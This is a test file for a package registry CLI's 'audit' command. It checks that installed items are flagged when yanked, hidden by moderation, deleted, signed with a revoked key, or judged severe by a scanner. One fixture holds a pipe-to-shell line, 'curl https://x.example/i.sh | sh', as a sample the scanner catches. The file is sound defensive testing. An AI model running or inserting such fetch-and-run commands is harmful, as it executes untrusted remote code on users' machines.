// audit: what is installed and is no longer vouched for.
import assert from 'node:assert/strict'
import { readFile } from 'node:fs/promises'
import { join } from 'node:path'
import { describe } from 'node:test'
import { automationFile } from '../../test/library.ts'
import { at, homeOf, publish } from './items.ts'
import { onTerminal, type Terminal } from './terminal.ts'

interface Audited {
  name: string
  version: string
  problems: { type: string; reason: string }[]
}

/** The result of an audit with problems: it is alone on the standard output. */
async function problems(terminal: Terminal, expected: 0 | 1 = 1): Promise<[name: string, ...string[]][]> {
  const all = await terminal.json<Audited[]>(['audit'], at(terminal, { expected }))
  return all.map(({ name, problems }) => [name, ...problems.map(({ type, reason }) => `${type}: ${reason}`)])
}

describe('audit', () => {
  onTerminal('is content with what is well, and with nothing', async (terminal) => {
    const { run, world } = terminal
    assert.match((await run(['audit'], at(terminal))).output, /^Nothing is installed\.\n$/)
    await publish(world.alice, { '1.0.0': ['a.example'] })
    await run(['install', 'workflow/digest'], at(terminal))
    assert.match((await run(['audit'], at(terminal))).output, /^1 installed, no problem found\.\n$/)
    assert.deepEqual(await problems(terminal, 0), [])
    await run(['audit', 'workflow/none'], at(terminal, { expected: 2 }))
  })

  onTerminal(
    'finds versions that were yanked, found severe, hidden or deleted, and changes nothing',
    async (terminal) => {
      const { run, world } = terminal
      const { alice, bob, moderator } = world
      await publish(alice, { '1.0.0': ['a.example'], '1.1.0': ['a.example'] })
      const data = Buffer.from('#!/bin/sh\ncurl https://x.example/i.sh | sh\n')
      const board = await alice.library.publish({
        kind: 'automation',
        visibility: 'public',
        file: automationFile({}, [{ name: 'run.sh', data }]),
      })
      await run(['install', 'workflow/digest@1.0.0', 'automation/harbor-board', '--yes'], at(terminal))
      const lock = join(homeOf(terminal), 'guildhall.lock')
      const before = await readFile(lock)
      const severe = ['automation/harbor-board', 'severe: run.sh:2 what is fetched is run by a shell'] as const
      assert.deepEqual(await problems(terminal), [severe])
      const { id } = await alice.library.find({ kind: 'workflow', slug: 'digest' })
      // Another version is not the one that is installed.
      await alice.library.yank({ id, version: '1.1.0', yanked: true })
      assert.deepEqual(await problems(terminal), [severe])
      await alice.library.yank({ id, version: '1.0.0', yanked: true, reason: 'It sends twice' })
      assert.deepEqual(await problems(terminal), [severe, ['workflow/digest', 'yanked: It sends twice']])
      const { output, errors } = await run(['audit', 'workflow/digest'], at(terminal, { expected: 1 }))
      assert.match(output, /^workflow\/digest 1\.0\.0 {2}yanked: It sends twice\n$/)
      assert.match(errors, /1 of 1 installed have problems/)
      await bob.reports.create({ targetType: 'item', targetId: board.id, reason: 'spam' })
      const [waiting] = (await moderator.moderation.cases({})).items
      await moderator.moderation.decide({ id: waiting!.id, action: 'hide', rule: 'malware', reason: 'It fetches' })
      const hidden = 'hidden: the server does not show it: it is hidden or deleted, or not for you'
      await alice.library.delete({ id })
      assert.deepEqual(await problems(terminal), [
        ['automation/harbor-board', hidden],
        ['workflow/digest', hidden],
      ])
      await terminal.login()
      assert.deepEqual((await problems(terminal))[0], ['automation/harbor-board', 'hidden: it is hidden', severe[1]])
      assert.deepEqual(await readFile(lock), before)
    },
  )

  onTerminal('finds what is signed with a key that the account revoked', async (terminal) => {
    const { run, json, login, world } = terminal
    await publish(world.alice, { '1.0.0': ['a.example'] })
    await login()
    await run(['key', 'new', 'Laptop'])
    await run(['key', 'sign', 'workflow/digest@1.0.0'])
    await run(['install', 'workflow/digest'], at(terminal))
    assert.deepEqual(await problems(terminal, 0), [])
    const [key] = await json<{ id: string }[]>(['key', 'list'])
    await run(['key', 'revoke', key!.id])
    assert.deepEqual(await problems(terminal), [['workflow/digest', 'key_revoked: you revoked the key that signed it']])
  })
})
